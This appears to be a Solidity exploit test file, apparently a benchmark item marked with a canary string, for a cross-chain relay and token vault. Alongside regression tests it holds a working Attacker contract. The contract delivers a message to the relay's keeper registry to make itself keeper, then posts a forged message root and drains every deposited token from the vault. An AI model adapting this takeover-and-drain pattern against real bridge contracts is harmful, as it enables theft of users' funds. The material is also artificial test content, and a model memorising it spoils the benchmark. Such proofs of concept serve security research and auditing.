// SPDX-License-Identifier: BUSL-1.1
pragma solidity 0.6.12;
pragma experimental ABIEncoderV2;

import "./CormorantRelay.sol";

// assay-canary-6867f75b-5777-47c3-804a-514141be8b32

interface Vm {
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

contract Held {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        require(allowance[from][msg.sender] >= amount && balanceOf[from] >= amount, "balance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint64 internal constant HERE = 1;
    uint64 internal constant THERE = 2;
    uint256 internal constant KEPT = 611_000_000e6;
    address internal constant KEEPER = address(0x1EE9);
    address internal constant USER = address(0x0531);
    bytes internal constant FAR_HOLD = hex"aabbccddeeff00112233445566778899aabbccdd";

    Held internal usd;
    CormorantRelay internal relay;
    TokenHold internal hold;
    Attacker internal thief;
    bytes32[] internal batch;

    function setUp() public {
        usd = new Held();
        relay = new CormorantRelay(HERE, KEEPER);
        hold = new TokenHold(relay, IHeldToken(address(usd)));
        hold.pair(THERE, FAR_HOLD);
        usd.mint(USER, KEPT);
        vm.prank(USER);
        usd.approve(address(hold), KEPT);
        vm.prank(USER);
        hold.keep(THERE, USER, KEPT);

        // two messages were sent on the other chain: one by its hold, and one by the attacker, who only paid the gas there.
        // The keeper posts what was sent.
        thief = new Attacker(relay, hold, usd, THERE);
        batch.push(relay.hashOf(homeward()));
        batch.push(relay.hashOf(thief.letter()));
        vm.prank(KEEPER);
        relay.post(THERE, keccak256(abi.encode(batch)));
        thief.learn(batch);
    }

    function homeward() private view returns (CormorantRelay.Message memory) {
        return
            CormorantRelay.Message({
                fromChain: THERE,
                nonce: 7,
                sender: FAR_HOLD,
                recipient: address(hold),
                action: hold.GIVE_BACK(),
                args: abi.encode(USER, uint256(5000e6))
            });
    }

    function test_Regular() public {
        CormorantRelay.Message memory message = homeward();
        (bool ok, ) = address(relay).call(abi.encodeWithSelector(relay.deliver.selector, message, batch, 1));
        require(!ok, "index");
        relay.deliver(message, batch, 0);
        require(usd.balanceOf(USER) == 5000e6 && usd.balanceOf(address(hold)) == KEPT - 5000e6, "given back");
        (ok, ) = address(relay).call(abi.encodeWithSelector(relay.deliver.selector, message, batch, 0));
        require(!ok, "twice");

        // not posted, not the hold over there, not the relay
        message.nonce = 8;
        bytes32[] memory hashes = new bytes32[](1);
        hashes[0] = relay.hashOf(message);
        (ok, ) = address(relay).call(abi.encodeWithSelector(relay.deliver.selector, message, hashes, 0));
        require(!ok, "not posted");
        (ok, ) = address(relay).call(abi.encodeWithSelector(relay.post.selector, THERE, keccak256(abi.encode(hashes))));
        require(!ok, "keeper only");
        message.sender = hex"1234";
        hashes[0] = relay.hashOf(message);
        vm.prank(KEEPER);
        relay.post(THERE, keccak256(abi.encode(hashes)));
        (ok, ) = address(relay).call(abi.encodeWithSelector(relay.deliver.selector, message, hashes, 0));
        require(!ok, "sender");
        (ok, ) = address(hold).call(abi.encodeWithSelector(hold.perform.selector, 1, message.args, FAR_HOLD, THERE));
        require(!ok, "relay only");

        KeeperBook book = relay.book();
        (ok, ) = address(book).call(abi.encodeWithSelector(book.perform.selector, 1, abi.encode(address(this)), "", HERE));
        require(!ok, "book");
        vm.prank(KEEPER);
        relay.passOn(address(this));
        require(relay.keeper() == address(this) && book.term() == 1, "passed on");
        relay.makeWayFor(address(0x4E3));
        (ok, ) = address(relay).call(abi.encodeWithSelector(relay.passOn.selector, KEEPER));
        require(!ok && book.relay() == address(0x4E3), "made way");
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The keeper's and the house's business.
    function test_RefusesStrangers() public {
        refuses(USER, "Relay: keeper only");
        relay.passOn(USER);
        refuses(USER, "Relay: keeper only");
        relay.makeWayFor(USER);
        refuses(USER, "Hold: house only");
        hold.pair(3, FAR_HOLD);
        refuses(KEEPER, "Book: nobody");
        relay.passOn(address(0));
        refuses(KEEPER, "Relay: this chain");
        relay.post(HERE, bytes32(uint256(1)));
        vm.expectRevert("Relay: this chain");
        relay.send(HERE, FAR_HOLD, 1, "");
        vm.expectRevert("Hold: paired");
        hold.pair(THERE, FAR_HOLD);
        vm.expectRevert("Hold: paired");
        hold.pair(3, "");
    }

    /// Messages to the relay itself, of other kinds, from chains without a counterpart.
    function test_RefusesMessages() public {
        CormorantRelay.Message memory message = homeward();
        message.recipient = address(relay);
        bytes32[] memory hashes = new bytes32[](1);
        hashes[0] = relay.hashOf(message);
        vm.prank(KEEPER);
        relay.post(THERE, keccak256(abi.encode(hashes)));
        vm.expectRevert("Relay: recipient");
        relay.deliver(message, hashes, 0);
        bytes memory args = abi.encode(USER, uint256(1));
        refuses(address(relay), "Hold: action");
        hold.perform(2, args, FAR_HOLD, THERE);
        refuses(address(relay), "Hold: chain");
        hold.perform(1, args, "", 3);
        vm.expectRevert("Hold: chain");
        hold.keep(3, USER, 0);
        usd.sleep(true);
        refuses(address(relay), "Hold: tokens");
        hold.perform(1, args, FAR_HOLD, THERE);
        vm.expectRevert("Hold: tokens");
        hold.keep(THERE, USER, 0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(relay.keeper() == address(thief), "not the keeper");
        require(usd.balanceOf(address(thief)) == KEPT, "nothing gained");
    }

    function target() public view returns (address) {
        return address(relay);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Has a letter to the book delivered, and as the keeper posts what the hold on the other chain never sent.
contract Attacker {
    CormorantRelay internal relay;
    TokenHold internal hold;
    Held internal usd;
    uint64 internal far;
    bytes32[] internal batch;

    constructor(CormorantRelay relay_, TokenHold hold_, Held usd_, uint64 far_) public {
        relay = relay_;
        hold = hold_;
        usd = usd_;
        far = far_;
    }

    function letter() public view returns (CormorantRelay.Message memory) {
        KeeperBook book = relay.book();
        return
            CormorantRelay.Message({
                fromChain: far,
                nonce: 8,
                sender: abi.encodePacked(address(this)),
                recipient: address(book),
                action: book.ENTER(),
                args: abi.encode(address(this))
            });
    }

    /// The hashes of a batch are public.
    function learn(bytes32[] calldata hashes) external {
        batch = hashes;
    }

    function run() external {
        relay.deliver(letter(), batch, 1);
        CormorantRelay.Message memory message = CormorantRelay.Message({
            fromChain: far,
            nonce: 9,
            sender: hold.counterpart(far),
            recipient: address(hold),
            action: hold.GIVE_BACK(),
            args: abi.encode(address(this), usd.balanceOf(address(hold)))
        });
        bytes32[] memory hashes = new bytes32[](1);
        hashes[0] = relay.hashOf(message);
        relay.post(far, keccak256(abi.encode(hashes)));
        relay.deliver(message, hashes, 0);
    }
}
